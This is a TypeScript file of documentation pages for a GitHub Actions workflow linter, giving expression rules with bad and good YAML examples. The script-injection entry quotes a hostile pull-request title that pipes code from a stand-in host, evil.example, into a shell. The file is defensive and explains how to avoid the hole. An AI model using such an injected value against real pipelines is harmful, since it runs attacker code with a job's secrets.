import type { RulePage } from './rule-page.ts';

/** Rules about expressions: what stands between `${{` and `}}`, and in every `if`. */
export const EXPRESSION_PAGES: readonly RulePage[] = [
  {
    rule: 'expression-syntax',
    severity: 'error',
    summary: 'An expression cannot be read.',
    why: "GitHub refuses the whole file. Texts are written in single quotes, a quote in them as `''`; the operators are `==`, `!=`, `<`, `<=`, `>`, `>=`, `&&`, `||` and `!`. The message names the place and, for a misspelt context or function, the one that was most likely meant.",
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    if: github.ref_name == "main"
    steps:
      - run: make
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    if: github.ref_name == 'main'
    steps:
      - run: make
`,
  },
  {
    rule: 'expression-not-allowed',
    severity: 'error',
    summary: 'An expression stands at a key that takes none.',
    why: 'Keys such as `name` of a workflow, `uses`, `needs`, the `shell` of a step and the filters of `on` are read before anything is evaluated. GitHub refuses the file; write the value itself.',
    bad: `name: CI of \${{ github.repository }}
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`,
    good: `name: CI
run-name: CI of \${{ github.repository }}
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`,
  },
  {
    rule: 'context-not-available',
    severity: 'error',
    summary: 'A context is used at a key at which it does not exist.',
    why: 'Each key is evaluated at its own moment: `matrix` is not known in the `if` of a job, `env` not before a worker has the job, `secrets` in no `if`. GitHub refuses the file. The message lists the contexts that exist there.',
    bad: `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - if: secrets.DEPLOY_KEY != ''
        run: ./deploy
`,
    good: `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    env:
      DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}
    steps:
      - if: env.DEPLOY_KEY != ''
        run: ./deploy
`,
  },
  {
    rule: 'function-not-available',
    severity: 'error',
    summary: 'A function is used at a key at which it does not exist.',
    why: '`success()`, `failure()`, `cancelled()` and `always()` exist in an `if` only, `hashFiles()` only in steps, where there are files. GitHub refuses the file.',
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
      - if: always()
        run: ./notify "\${{ failure() }}"
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
      - if: always()
        run: ./notify "\${{ job.status }}"
`,
  },
  {
    rule: 'undefined-reference',
    severity: 'warning',
    summary: 'A property is read that a context does not have.',
    why: 'GitHub makes it empty and runs on, so that a misspelt name shows only in what the run does. Reported where the shape of a context is known: `github`, `runner`, `job`, `strategy`; the steps before this one and the outputs their scripts set; the jobs under `needs` and their `outputs`; the keys of the matrix; the declared `inputs`; the declared `secrets` of a workflow that is only called.',
    bad: `on: push
jobs:
  version:
    runs-on: ubuntu-latest
    steps:
      - id: version
        run: ./version >> "$GITHUB_OUTPUT"
  publish:
    needs: version
    runs-on: ubuntu-latest
    steps:
      - run: ./publish "\${{ needs.version.outputs.version }}"
`,
    good: `on: push
jobs:
  version:
    runs-on: ubuntu-latest
    outputs:
      version: \${{ steps.version.outputs.version }}
    steps:
      - id: version
        run: ./version >> "$GITHUB_OUTPUT"
  publish:
    needs: version
    runs-on: ubuntu-latest
    steps:
      - run: ./publish "\${{ needs.version.outputs.version }}"
`,
  },
  {
    rule: 'wrong-access',
    severity: 'warning',
    summary: 'A property or an item is read of a value that has none.',
    why: 'A text, a number, true or false has no properties, and a list has items only; what is read is always empty. Outputs are texts: `fromJSON()` makes a map or a list of one that holds JSON. `list.*.name` is the `name` of each item.',
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: meta
        run: ./meta >> "$GITHUB_OUTPUT"
      - run: make TAG="\${{ steps.meta.outputs.json.tag }}"
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: meta
        run: ./meta >> "$GITHUB_OUTPUT"
      - run: make TAG="\${{ fromJSON(steps.meta.outputs.json).tag }}"
`,
  },
  {
    rule: 'useless-comparison',
    severity: 'warning',
    summary: 'A comparison has the same result whatever the run brings.',
    why: "GitHub compares values of two kinds as numbers: `true` is 1, and a text without a number in it is equal to nothing. So an input of `type: boolean` is never equal to `'true'`, an output, which is a text, not to `true`, and a list or map to no text. A result is one of `success`, `failure`, `cancelled` and `skipped`, a choice one of its options; anything else is never met.",
    bad: `on:
  workflow_dispatch:
    inputs:
      debug:
        type: boolean
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - if: inputs.debug == 'true'
        run: make debug
`,
    good: `on:
  workflow_dispatch:
    inputs:
      debug:
        type: boolean
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - if: inputs.debug == true
        run: make debug
`,
  },
  {
    rule: 'function-argument',
    severity: 'error or warning',
    summary: 'A function gets an argument with which it cannot do what it is for.',
    why: 'An error where the call fails each time it is evaluated: a text of `format()` with a single brace or a number for which there is no argument, `fromJSON()` of a text that is no JSON, a condition of `case()` that is not true or false. A warning where its result is of no use: an argument that `format()` does not print, a list where a text is compared, a pattern of `hashFiles()` that matches nothing.',
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t "\${{ format('app:{1}', github.sha) }}" .
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t "\${{ format('app:{0}', github.sha) }}" .
`,
  },
  {
    rule: 'object-as-text',
    severity: 'warning',
    summary: 'A map or a list stands where a text is made of it.',
    why: 'GitHub prints a map as `Object` and a list as `Array`. Read a property of it, join a list with `join()`, or make JSON of all of it with `toJSON()`.',
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    env:
      LABELS: \${{ github.event.pull_request.labels.*.name }}
    steps:
      - run: make
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    env:
      LABELS: \${{ join(github.event.pull_request.labels.*.name, ' ') }}
    steps:
      - run: make
`,
  },
  {
    rule: 'value-type',
    severity: 'error or warning',
    summary: 'The value of an expression is not of the kind that the key takes.',
    why: 'Keys such as `timeout-minutes`, `continue-on-error`, `matrix` and `env` take a number, true or false, a list or a map, and GitHub makes none out of a text: the job fails when it gets there. Variables, outputs and secrets are texts; `fromJSON()` reads the value in them. An error where the value cannot be what the key takes, a warning where this server would read it.',
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minutes: \${{ vars.TIMEOUT }}
    steps:
      - run: make
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minutes: \${{ fromJSON(vars.TIMEOUT) }}
    steps:
      - run: make
`,
  },
  {
    rule: 'always-true',
    severity: 'warning',
    summary: 'Text stands beside the `${{ }}` of a condition.',
    why: 'With text around it, be it a line end or another `${{ }}`, the whole condition is a text, and a text counts as true. Put all of it into one `${{ }}`, or leave the braces out: an `if` needs none.',
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    if: \${{ github.ref_name == 'main' }} && github.actor != 'bot'
    steps:
      - run: make
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    if: github.ref_name == 'main' && github.actor != 'bot'
    steps:
      - run: make
`,
  },
  {
    rule: 'constant-condition',
    severity: 'warning',
    summary: 'A condition, or a part of it, is the same in every run.',
    why: "A text beside `||` or `&&` is not compared to anything and counts as true by itself, so that `github.ref_name == 'main' || 'next'` always holds. `if: true` and `if: false` are no mistakes.",
    bad: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    if: github.ref_name == 'main' || 'next'
    steps:
      - run: make
`,
    good: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    if: github.ref_name == 'main' || github.ref_name == 'next'
    steps:
      - run: make
`,
  },
  {
    rule: 'script-injection',
    severity: 'warning',
    summary: 'A text that anybody may write becomes a part of a script.',
    why: 'An expression in `run` is replaced before the shell reads the script, so that a pull request with the title `"; curl evil.example | sh; "` runs what its author likes, with the secrets of the job. Titles, bodies, comments, names of branches, commit messages and names of authors are such texts. Give them to the script as variables, which the shell does not read as commands.',
    bad: `on: push
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - run: ./check-title "\${{ github.event.pull_request.title }}"
`,
    good: `on: push
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.pull_request.title }}
        run: ./check-title "$TITLE"
`,
  },
  {
    rule: 'empty-token',
    severity: 'warning',
    summary: 'The token of the forge is read, and this server has none to give.',
    why: '`github.token` and `secrets.GITHUB_TOKEN` are made by GitHub for each run; here they are empty. Store a token of your own as a secret and use that.',
    bad: `on: push
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: ./release
        env:
          TOKEN: \${{ secrets.GITHUB_TOKEN }}
`,
    good: `on: push
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: ./release
        env:
          TOKEN: \${{ secrets.RELEASE_TOKEN }}
`,
  },
];
